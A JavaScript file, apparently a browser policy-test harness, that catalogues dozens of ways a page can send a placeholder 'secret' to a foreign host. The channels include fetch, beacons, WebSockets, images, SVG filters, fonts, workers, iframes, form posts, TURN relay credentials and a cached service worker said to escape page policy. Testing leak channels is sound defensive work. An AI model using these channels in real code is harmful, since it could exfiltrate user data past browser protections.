// Ways to load from a foreign host, or to tell it something. Each asks for `${to}/<its own name>`, so that a hit names it.
const add = (tag, attributes, place = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  place.append(element);
  return element;
};
const link = (rel, href, more = {}) => add("link", { rel, href, ...more }, document.head);
const addSVG = (markup) => document.body.append(new DOMParser().parseFromString(markup, "image/svg+xml").documentElement);
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

const ways = {
  fetch: (to) => fetch(to, { mode: "no-cors" }),
  "fetch-post": (to) => fetch(to, { method: "POST", mode: "no-cors", body: "secret" }),
  "fetch-keepalive": (to) => fetch(to, { mode: "no-cors", keepalive: true }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("POST", to);
    request.send("secret");
  },
  beacon: (to) => navigator.sendBeacon(to, "secret"),
  websocket: (to) => new WebSocket(to.replace("http:", "ws:")),
  eventsource: (to) => new EventSource(to),
  image: (to) => void (new Image().src = to),
  srcset: (to) => add("img", { srcset: `${to} 1x` }),
  picture: (to) => add("picture", {}).append(Object.assign(document.createElement("source"), { srcset: to }), new Image()),
  "input-image": (to) => add("input", { type: "image", src: to }),
  "svg-image": (to) => addSVG(`<svg ${SVG}><image href="${to}" width="9" height="9"/></svg>`),
  "svg-filter": (to) => addSVG(`<svg ${SVG}><filter id="f"><feImage href="${to}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`),
  video: (to) => add("video", { src: to, preload: "auto" }).load(),
  audio: (to) => add("audio", { src: to, preload: "auto" }).load(),
  poster: (to) => add("video", { poster: to }),
  script: (to) => add("script", { src: to }),
  "module-script": (to) => add("script", { src: to, type: "module" }),
  "dynamic-import": (to) => import(to),
  "module-preload": (to) => link("modulepreload", to),
  style: (to) => link("stylesheet", to),
  "style-import": (to) => {
    const sheet = add("style", {}, document.head);
    sheet.textContent = `@import url("${to}")`;
  },
  background: (to) => void (document.body.style.backgroundImage = `url("${to}")`),
  mask: (to) => void (document.body.style.maskImage = `url("${to}")`),
  content: (to) => void (add("p", {}).style.content = `url("${to}")`),
  font: (to) => new FontFace("foreign", `url("${to}")`).load(),
  frame: (to) => add("iframe", { src: to }),
  object: (to) => add("object", { data: to, type: "text/html" }),
  embed: (to) => add("embed", { src: to, type: "text/html" }),
  preload: (to) => link("preload", to, { as: "image" }),
  "preload-fetch": (to) => link("preload", to, { as: "fetch", crossorigin: "" }),
  icon: (to) => link("icon", to),
  worker: (to) => {
    const blob = new Blob([`importScripts(${JSON.stringify(to)})`], { type: "text/javascript" });
    new Worker(URL.createObjectURL(blob));
  },
  "worker-fetch": (to) => {
    const blob = new Blob([`fetch(${JSON.stringify(to)}, { mode: "no-cors" })`], { type: "text/javascript" });
    new Worker(URL.createObjectURL(blob));
  },
  "frame-with-a-document": (to) => add("iframe", { srcdoc: `<img src="${to}">` }),
  "frame-of-a-blob": (to) => add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to}">`], { type: "text/html" })) }),
  "inline-script": (to) => add("script", {}).append(`new Image().src = ${JSON.stringify(to)}`),
  "written-document": (to) => {
    const frame = add("iframe", {});
    frame.contentDocument.write(`<img src="${to}">`);
    frame.contentDocument.close();
  },
};

/** Ways that take the document with them, or might: one to a page. */
const waysOut = {
  location: (to) => void (location.href = to),
  "location-replace": (to) => location.replace(to),
  "meta-refresh": (to) => add("meta", { "http-equiv": "refresh", content: `0;url=${to}` }, document.head),
  form: (to) => {
    const form = add("form", { action: to, method: "post" });
    form.append(Object.assign(document.createElement("input"), { name: "secret", value: "secret" }));
    form.submit();
  },
  "form-get": (to) => add("form", { action: to }).submit(),
  link: (to) => add("a", { href: to }).click(),
  ping: (to) => add("a", { href: "#here", ping: to }).click(),
  download: (to) => add("a", { href: to, download: "secret" }).click(),
};

const tryOne = (way, to) => {
  try {
    Promise.resolve(way(to)).catch(() => undefined);
  } catch {
    // A refusal may be loud; what counts is what arrives at the other end.
  }
};

window.reachingOut = {
  names: Object.keys(ways),
  namesOfWaysOut: Object.keys(waysOut),
  all: (to) => Object.entries(ways).forEach(([name, way]) => tryOne(way, `${to}/${name}`)),
  leave: (name, to) => tryOne(waysOut[name], `${to}/${name}`),

  /** A relay server's name and password carry whatever one likes; no page is loaded for it. */
  async callRelay(port) {
    const servers = [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: "secret", credential: "secret" }];
    const connection = new RTCPeerConnection({ iceServers: servers, iceTransportPolicy: "relay" });
    connection.createDataChannel("secret");
    await connection.setLocalDescription(await connection.createOffer());
  },

  /** A service worker's answers carry no policy but their own: a page made by one may call whom it likes. */
  async installWorker(script, scope) {
    try {
      await fetch(script); // into the browser's cache, from which a worker may come without the host being asked
      await navigator.serviceWorker.register(script, { ...(scope && { scope }), updateViaCache: "all" });
      await navigator.serviceWorker.ready;
      return "registered";
    } catch (error) {
      return error.name;
    }
  },
};
